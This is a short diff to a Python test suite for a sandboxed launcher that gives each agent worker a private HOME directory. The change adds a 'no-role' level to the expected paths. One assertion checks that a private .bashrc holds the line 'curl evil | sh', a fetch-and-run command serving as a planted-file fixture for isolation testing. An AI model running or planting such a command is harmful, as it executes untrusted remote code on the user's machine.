@@ -135,7 +135,7 @@ def test_a_custom_worker_gets_a_private_home_by_default(tmp_path, bwrap):
     assert "fsmonitor" not in (other / ".git" / "config").read_text()
     assert not (home / ".cache" / "mesh-worker-homes" / "claude" / ".bashrc").exists()
     # A HOME per repository, task and program (no repository and no task here).
-    private = home / ".cache" / "mesh-worker-homes" / "no-repository" / "no-task" / "my-agent"
+    private = home / ".cache" / "mesh-worker-homes" / "no-repository" / "no-task" / "no-role" / "my-agent"
     assert (private / ".bashrc").read_text() == "curl evil | sh\nabsolute\n"
 
 
@@ -144,7 +144,7 @@ def test_one_workers_private_home_is_not_visible_to_another(tmp_path, bwrap):
     root = tmp_path / "homes"
     launch = worker_launcher(bwrap, private_root=root)
     _probe(launch, _program(tmp_path, "agent-a"), home, write={"note": "from a"})
-    kept = str(root / "no-repository" / "no-task" / "agent-a" / "note")
+    kept = str(root / "no-repository" / "no-task" / "no-role" / "agent-a" / "note")
     assert Path(kept).read_text() == "from a"
     seen = _probe(launch, _program(tmp_path, "agent-b"), home, read=["note", kept])
     assert seen["read"] == {"note": None, kept: None}
